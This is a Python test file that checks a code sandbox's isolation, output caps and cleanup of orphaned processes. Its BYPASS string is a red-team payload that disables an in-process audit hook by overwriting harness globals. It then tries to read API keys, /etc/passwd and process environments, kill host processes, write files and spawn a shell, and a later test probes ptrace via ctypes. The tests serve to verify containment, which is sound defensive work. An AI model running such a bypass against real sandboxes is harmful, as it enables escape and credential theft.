"""The OS boundary holds after the candidate switches the in-process audit hook off (red-team finding 1),
output is capped while streaming (finding 5), and no sandbox outlives its worker or its task (finding 6)."""

from __future__ import annotations

import asyncio
import json
import os
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from prometheus_client import REGISTRY

from tests.support import ROOT, wait_until
from workers.config import VerifierSpec, WorkerConfig
from workers.entry import Worker
from workers.verifiers import isolation
from workers.verifiers.code_tests import CodeTestsVerifier
from workers.verifiers.isolation import Isolation, isolation_status
from workers.verifiers.sandbox import SandboxLimits, clean_stale_workdirs, run_python, run_python_async

needs_bwrap = pytest.mark.skipif(not isolation_status().available,
                                 reason=f"no OS sandbox here: {isolation_status().reason}")

# The red team's document: rewrite the harness's globals through sys.modules["__main__"] so the audit hook
# allows everything, then try every escape the first round found, and report what worked.
BYPASS = r'''
import json, os, signal, sys
main = sys.modules["__main__"]
main._BLOCKED_PREFIXES = ("no-such-event",)
main._readable = lambda path: True
main._inside = lambda path: True
# the hook's inline import check calls str() through the module globals: make it answer "harmless"
main.str = type("str", (str,), {"__new__": lambda cls, value="": str.__new__(cls, "harmless")})
fake_path = type("path", (), {"realpath": staticmethod(lambda p: "/nowhere")})
main.os = type("os", (), {"path": fake_path, "fsdecode": os.fsdecode, "O_WRONLY": 0, "O_RDWR": 0, "O_CREAT": 0})
report = {"hook_off": False, "files": {}, "environ": [], "connect": None, "kill": None, "write": None, "tmp": None}
try:
    import ctypes  # refused by the hook while it is on
    report["hook_off"] = True
except Exception as exc:
    report["hook_off"] = repr(exc)
for path in PATHS:
    try:
        report["files"][path] = open(path, errors="replace").read()[:2000]
    except Exception as exc:
        report["files"][path] = "ERR " + type(exc).__name__
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid()), str(HOST_PID)]:
    try:
        report["environ"].append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
    except Exception:
        pass
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"leak")
    report["connect"] = "connected"
except Exception as exc:
    report["connect"] = type(exc).__name__
try:
    os.kill(VICTIM, signal.SIGKILL)
    report["kill"] = "sent"
except Exception as exc:
    report["kill"] = type(exc).__name__
try:
    open(TARGET, "w").write("pwned")
    report["write"] = "written"
except Exception as exc:
    report["write"] = type(exc).__name__
import subprocess
try:
    report["subprocess"] = subprocess.run(["/bin/sh", "-c", "id; ls /; cat /etc/passwd"],
                                          capture_output=True, timeout=5).stdout.decode()
except Exception as exc:
    report["subprocess"] = type(exc).__name__
report["tmp"] = sorted(os.listdir("/tmp"))
print(json.dumps(report))
'''


def _listener() -> tuple[socket.socket, list[str]]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    seen: list[str] = []

    def accept() -> None:
        try:
            conn, _ = server.accept()
            seen.append("connected")
            conn.close()
        except OSError:
            pass

    threading.Thread(target=accept, daemon=True).start()
    return server, seen


def _bypass_program(paths: list[str], port: int, victim: int, target: str) -> str:
    header = (f"PATHS = {paths!r}\nPORT = {port}\nVICTIM = {victim}\nTARGET = {target!r}\n"
              f"HOST_PID = {os.getpid()}\n")
    return header + BYPASS


def _assert_contained(report: dict[str, object], secret: str, secret_file: Path, target: Path,
                      victim: subprocess.Popen[bytes], connections: list[str]) -> None:
    assert report["hook_off"] is True  # the in-process hook really was switched off ...
    dumped = json.dumps(report)
    assert secret not in dumped  # ... yet no host file, keys file or parent environment was readable
    files = report["files"]
    assert isinstance(files, dict)
    assert all(str(v).startswith("ERR") for v in files.values()), files
    assert "root:x:0:0" not in dumped
    assert report["connect"] != "connected" and connections == []  # no network
    assert victim.poll() is None  # no signal reached a host process
    assert not target.exists()  # nothing written outside
    assert report["tmp"] == []  # a private /tmp: none of the host's temporary files


@needs_bwrap
def test_audit_hook_bypass_cannot_reach_host_files_network_processes_or_environment(tmp_path: Path,
                                                                                    monkeypatch: pytest.MonkeyPatch
                                                                                    ) -> None:
    secret = f"sk-live-{uuid.uuid4().hex}"
    monkeypatch.setenv("WEAVER_API_KEYS", secret)  # the gateway's keys in the worker's environment
    keys_file = tmp_path / "api-keys"
    keys_file.write_text(secret + "\n")
    keys_file.chmod(0o644)  # world-readable on purpose: only the boundary can keep it out
    target = tmp_path / "escaped.txt"
    server, connections = _listener()
    victim = subprocess.Popen(["sleep", "30"])
    try:
        program = _bypass_program([str(keys_file), "/etc/passwd", f"/proc/{os.getpid()}/environ"],
                                  server.getsockname()[1], victim.pid, str(target))
        result = run_python(program, limits=SandboxLimits(timeout_s=15, cpu_s=10))
        assert result.returncode == 0, result.stderr[-2000:]
        report = json.loads(result.stdout)
        _assert_contained(report, secret, keys_file, target, victim, connections)
        assert "root:x" not in str(report.get("subprocess"))
    finally:
        server.close()
        victim.kill()
        victim.wait()


NON_ROOT_RUNNER = r'''
import json, sys, types
for name in ("workers", "workers.verifiers"):  # the sandbox modules are stdlib-only; skip the packages' imports
    package = types.ModuleType(name)
    package.__path__ = [sys.argv[1] + "/" + name.replace(".", "/")]
    sys.modules[name] = package
from workers.verifiers.sandbox import SandboxLimits, run_python
from workers.verifiers.isolation import isolation_status
status = isolation_status()
if not status.available:
    print(json.dumps({"unavailable": status.reason}))
    raise SystemExit(0)
result = run_python(sys.stdin.read(), limits=SandboxLimits(timeout_s=15, cpu_s=10))
print(result.stdout if result.returncode == 0 else json.dumps({"failed": result.stderr[-2000:]}))
'''


@needs_bwrap
def test_audit_hook_bypass_is_contained_for_a_non_root_worker(tmp_path: Path) -> None:
    """As uid 10001 (the Kubernetes deployment's user): bwrap runs unprivileged in a user namespace."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None or not Path(isolation.SYSTEM_PYTHON).exists():
        pytest.skip("needs root (to become uid 10001) and a system python3")
    if not isolation._world_readable(str(ROOT / "workers" / "verifiers" / "sandbox.py"), executable=False):
        pytest.skip(f"uid 10001 cannot read the checkout at {ROOT}")
    secret = f"sk-live-{uuid.uuid4().hex}"
    keys_file = tmp_path / "api-keys"
    keys_file.write_text(secret + "\n")
    keys_file.chmod(0o644)
    tmp_path.chmod(0o777)
    for parent in tmp_path.parents:
        if str(parent).startswith(tempfile.gettempdir()) and parent != Path(tempfile.gettempdir()):
            parent.chmod(parent.stat().st_mode | 0o005)
    target = tmp_path / "escaped.txt"
    server, connections = _listener()
    victim = subprocess.Popen(["sleep", "30"])
    runner = tmp_path / "runner.py"
    runner.write_text(NON_ROOT_RUNNER)
    runner.chmod(0o644)
    try:
        program = _bypass_program([str(keys_file), "/etc/passwd"], server.getsockname()[1], victim.pid, str(target))
        done = subprocess.run(
            ["setpriv", "--reuid=10001", "--regid=10001", "--clear-groups", "--", isolation.SYSTEM_PYTHON, "-I",
             str(runner), str(ROOT)], input=program.encode(), capture_output=True, timeout=60, cwd="/",
            env={"PATH": "/usr/bin:/bin", "WEAVER_API_KEYS": secret, "TMPDIR": "/tmp"}, check=False)
        assert done.returncode == 0, done.stderr.decode()[-2000:]
        report = json.loads(done.stdout.decode().strip().splitlines()[-1])
        if "unavailable" in report:
            pytest.skip(f"unprivileged user namespaces are not allowed here: {report['unavailable']}")
        assert "failed" not in report, report
        _assert_contained(report, secret, keys_file, target, victim, connections)
    finally:
        server.close()
        victim.kill()
        victim.wait()


@needs_bwrap
def test_huge_output_is_capped_while_streaming_and_the_program_killed() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
    program = "import sys\nchunk = 'x' * 1_000_000\nfor _ in range(200):\n    sys.stdout.write(chunk)\n"
    result = run_python(program, limits=SandboxLimits(timeout_s=20, max_output_bytes=1 << 20))
    assert result.output_truncated and not result.ok and "output over the limit" in result.reason()
    assert len(result.stdout) == 1 << 20
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 64, f"the worker's peak RSS grew {grown_mb:.0f} MB reading 200 MB of output"


def _descendants(root: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            children.setdefault(ppid, []).append(int(entry.name))
    found: set[int] = set()
    stack = [root]
    while stack:
        for child in children.get(stack.pop(), []):
            found.add(child)
            stack.append(child)
    return found


def _alive(pids: set[int]) -> set[int]:
    alive = set()
    for pid in pids:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if state != "Z":
            alive.add(pid)
    return alive




SLEEPER = "import time\nprint('started', flush=True)\ntime.sleep(60)\n"


@pytest.fixture
def open_tmp() -> Iterator[Path]:
    """A temporary directory uid 65534 can enter (unisolated runs as root drop to it; pytest's tmp_path is 0700)."""
    path = Path(tempfile.mkdtemp(prefix="weaver-test-", dir="/tmp"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@needs_bwrap
@pytest.mark.parametrize("isolated", [True, False], ids=["bwrap", "unisolated"])
def test_a_dying_worker_takes_its_sandboxes_and_start_up_removes_its_directory(open_tmp: Path,
                                                                              isolated: bool) -> None:
    tmp_path = open_tmp
    code = ("import sys; from workers.verifiers.sandbox import SandboxLimits, run_python; "
            f"run_python(sys.stdin.read(), limits=SandboxLimits(timeout_s=60, cpu_s=60), isolated={isolated})")
    worker = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE,
                              env={**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(tmp_path)})
    assert worker.stdin is not None
    worker.stdin.write(SLEEPER.encode())
    worker.stdin.close()
    wait_until(lambda: len(_descendants(worker.pid)) >= (3 if isolated else 1), 20, "the sandbox to start")
    time.sleep(0.5)
    sandbox = _descendants(worker.pid)
    left = list(tmp_path.glob(f"weaver-sandbox-{worker.pid}-*"))
    assert len(left) == (0 if isolated else 1)  # an isolated run's files live in memory only
    worker.kill()  # SIGKILL: no finally block runs in the worker
    worker.wait()
    wait_until(lambda: not _alive(sandbox), 10, "the orphaned sandbox processes to die")
    removed = clean_stale_workdirs(str(tmp_path))
    assert len(removed) == len(left) and not list(tmp_path.glob("weaver-sandbox-*"))


@needs_bwrap
def test_clean_stale_workdirs_keeps_the_directories_of_live_workers(tmp_path: Path) -> None:
    mine = tmp_path / f"weaver-sandbox-{os.getpid()}-abc"
    mine.mkdir()
    assert clean_stale_workdirs(str(tmp_path)) == [] and mine.exists()


@needs_bwrap
@pytest.mark.parametrize("isolated", [True, False], ids=["bwrap", "unisolated"])
async def test_cancelling_the_awaiting_task_kills_the_sandbox_and_removes_its_directory(
        open_tmp: Path, monkeypatch: pytest.MonkeyPatch, isolated: bool) -> None:
    tmp_path = open_tmp
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    before = _descendants(os.getpid())  # e.g. multiprocessing's resource tracker: not ours to judge
    task = asyncio.create_task(run_python_async(SLEEPER, limits=SandboxLimits(timeout_s=60, cpu_s=60),
                                                isolated=isolated))
    for _ in range(200):
        await asyncio.sleep(0.05)
        if len(_descendants(os.getpid()) - before) >= (3 if isolated else 1):
            break
    await asyncio.sleep(0.5)
    sandbox = _descendants(os.getpid()) - before
    assert sandbox
    assert len(list(tmp_path.glob("weaver-sandbox-*"))) == (0 if isolated else 1)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await asyncio.to_thread(wait_until, lambda: not _alive(sandbox), 10, "the cancelled sandbox to die")
    assert not list(tmp_path.glob("weaver-sandbox-*"))


@needs_bwrap
async def test_a_verifier_timeout_kills_its_running_sandboxes() -> None:
    config = WorkerConfig(verifiers=[VerifierSpec(name="code", type="code_tests", timeout_s=1.5,
                                                  params={"test_timeout_s": 30.0})])
    worker = Worker.from_config(config)
    await worker.start()
    before = _descendants(os.getpid())
    try:
        from workers.contract import Job

        start = time.perf_counter()
        result = await worker.run(Job(kind="rerank", prompt="p", candidates=[SLEEPER, SLEEPER], verifiers=["code"],
                                      aggregator="mean", context={"tests": ["pass"]}))
        elapsed = time.perf_counter() - start
        assert result.status == "ok" and "timeout" in (result.diagnostics[0].error or "")
        assert elapsed < 10
        await asyncio.to_thread(wait_until, lambda: not _alive(_descendants(os.getpid()) - before), 10,
                                "the timed-out sandbox to die")
    finally:
        await worker.close()


def test_code_tests_refuses_to_load_without_isolation_and_readiness_says_why(monkeypatch: pytest.MonkeyPatch
                                                                             ) -> None:
    broken = Isolation(False, None, "bwrap not found (install the bubblewrap and util-linux packages)")
    monkeypatch.setattr("workers.verifiers.code_tests.isolation_status", lambda: broken)

    async def start(params: dict[str, object]) -> Worker:
        worker = Worker.from_config(WorkerConfig(verifiers=[VerifierSpec(name="code", type="code_tests",
                                                                          params=params)]))
        await worker.start()
        return worker

    refused = asyncio.run(start({}))
    assert not refused.ready()
    assert "bwrap not found" in refused.readiness_errors()["verifier:code"]
    assert REGISTRY.get_sample_value("weaver_sandbox_available") == 0
    allowed = asyncio.run(start({"allow_unisolated": True}))
    assert allowed.ready() and allowed.describe_verifiers()[0]["isolated"] is False


@needs_bwrap
def test_the_gauge_reports_a_working_sandbox() -> None:
    CodeTestsVerifier("code").load()
    assert REGISTRY.get_sample_value("weaver_sandbox_available") == 1



def test_no_gauge_sample_without_a_code_tests_verifier() -> None:
    """An unlabelled gauge would export 0 (a false "sandbox unavailable" alert) on workers without code_tests."""
    probe = ("import workers.verifiers.code_tests\nfrom prometheus_client import REGISTRY\n"
             "print(REGISTRY.get_sample_value('weaver_sandbox_available'))")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, timeout=120, check=True,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.stdout.decode().strip() == "None"


@needs_bwrap
def test_the_seccomp_filter_denies_kernel_interfaces_a_program_never_needs() -> None:
    import platform

    from workers.verifiers.isolation import seccomp_program

    if seccomp_program() is None or platform.machine() != "x86_64":
        pytest.skip("no libseccomp here, or not x86_64 (the raw syscall number below is x86_64's)")
    program = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
               "print(libc.syscall(101, 0, 0, 0, 0), ctypes.get_errno())\n")  # ptrace(PTRACE_TRACEME)
    result = run_python(program, audit_hook=False)  # the OS layers alone
    assert result.stdout.split() == ["-1", "1"], result.stderr  # EPERM (without the filter: 0, allowed)
